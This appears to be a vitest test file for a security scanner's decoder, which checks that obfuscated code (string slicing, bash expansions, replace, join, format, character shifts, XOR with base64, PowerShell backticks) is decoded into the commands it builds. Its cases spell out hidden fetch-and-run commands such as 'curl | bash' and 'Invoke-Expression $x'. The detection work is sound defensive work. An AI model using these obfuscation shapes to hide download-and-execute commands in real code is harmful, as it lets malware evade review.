// Strings assembled by code (src/audit/decode-assembly.ts): each shape comes out as the command it builds, and
// only where it brings out a command word the written text does not hold.
import { describe, expect, it } from "vitest";
import { decodePieces } from "../../src/audit/decode.js";
import { reveals } from "../../src/audit/decode-assembly.js";

const texts = (text: string) => decodePieces(text).map((p) => p.text);
/** Bash expansions written `%{…}` here (a `$` and a brace in a plain string read as a mistaken template). */
const sh = (s: string): string => s.replaceAll("%{", "${");

describe("strings assembled by code", () => {
  it("reads each shape as the command it builds", () => {
    const cases: [string, string][] = [
      ["a = 'abcdehlrsu |'\nc = a[2]+a[9]+a[7]+a[6]+a[10]+a[11]+a[1]+a[0]+a[8]+a[5]\n", "curl |bash"],
      [sh("s=abcdefghijklmnopqrstuvwxyz\n%{s:2:1}%{s:20:1}%{s:17:1}%{s:11:1} -s x\n"), "curl -s x"],
      [sh("c=cXuXrXl\n%{c//X/} -s https://a.example/x\n"), "curl -s https://a.example/x"],
      ["os.system('cXuXrXl x | bXaXsXh'.replace('X', ''))", "curl x | bash"],
      ["$p = 'n;e;t;.;w;e;b;c;l;i;e;n;t' -split ';' -join ''", "net.webclient"],
      ["I`n`v`o`k`e-Ex`p`ression $x", "Invoke-Expression $x"],
      ["execSync(['curl', '-s', 'u', '|', 'sh'].join(' '))", "curl -s u | sh"],
      ["p = ['curl', '-s', 'u', '|', 'sh']\nrun(' '.join(p))", "curl -s u | sh"],
      ["os.system('{}{} u | {}'.format('cu', 'rl', 'bash'))", "curl u | bash"],
      ["s = 'fxuo#0v#x'\nos.system(''.join(chr(ord(c) - 3) for c in s))", "curl -s u"],
    ];
    for (const [text, out] of cases) expect(texts(text), text).toContain(out);
  });

  it("XORs decoded bytes with a key the file names", () => {
    const key = 0x2a;
    const hidden = Buffer.from([..."curl -s u | bash"].map((c) => c.charCodeAt(0) ^ key)).toString("base64");
    const text = `k = 0x2a\nd = base64.b64decode('${hidden}')\nrun(bytes(b ^ k for b in d))\n`;
    expect(texts(text)).toContain("curl -s u | bash");
  });

  it("leaves code that shows its commands in plain sight", () => {
    expect(
      texts(sh("v=1.2.3\ncurl -fsSL -o t.tgz https://github.com/a/b/releases/v%{v}/t-%{v//./_}.tgz\n")),
    ).toEqual([]);
    expect(texts("args = ['git', 'log', '--oneline', '-n']\nprint(' '.join(args))\n")).toEqual([]);
    expect(texts("$t = 'build_report'.Replace('_', ' ')\nWrite-Host \"a`nb`tc`nd\"\n")).toEqual([]);
    expect(texts("msg = 'meet me at noon'\nprint(''.join(chr(ord(c) + 3) for c in msg))\n")).toEqual([]);
  });

  it("waits for each call's own spelling in the scanner's hint pass (a corpus without one reads none)", () => {
    const none = () => false;
    const shapes = [
      "os.system('cXuXrXl x | bXaXsXh'.replace('X', ''))",
      "execSync(['curl', '-s', 'u', '|', 'sh'].join(' '))",
      "os.system('{}{} u | {}'.format('cu', 'rl', 'bash'))",
      "a = 'abcdehlrsu |'\nc = a[2]+a[9]+a[7]+a[6]+a[10]+a[11]+a[1]+a[0]+a[8]+a[5]\n",
    ];
    for (const text of shapes) {
      expect(texts(text), text).not.toEqual([]);
      expect(decodePieces(text, none), text).toEqual([]);
    }
  });

  it("asks for a command word or shape missing from the written text", () => {
    expect(reveals("'cu' + 'rl'", "curl")).toBe(true);
    expect(reveals("['curl', '|', 'bash']", "curl | bash")).toBe(true);
    expect(reveals("curl https://x.example/a", "curl https://x.example/a")).toBe(false);
    expect(reveals("'a;b;c'", "abc")).toBe(false);
  });

  it("reads a 400 KB line of each trigger to the end, each piece within the decoder's limits", () => {
    const lines = [
      "a = 'curl|bash' a[0]+a[1]+".repeat(15_000),
      sh("s=curlbash %{s:0:1}%{s:1:1}%{!s}%{s//X/} ").repeat(10_000),
      "'cXuXrXl'.replace('X', '') -split ';' -join '' ".repeat(8_000),
      "I`n`v`o`k`e-Ex`p`ression ".repeat(16_000),
      "p = ['cu', 'rl', '|', 'sh'] p.join(' ') ' '.join(p) ".repeat(7_500),
      "chr(ord(c) - k) b ^ k $_ -bxor $k 'dXJsIHwgYmFzaA==' ".repeat(7_500),
    ];
    for (const line of lines) expect(decodePieces(line.slice(0, 400_000)).length).toBeLessThanOrEqual(64);
  });
});
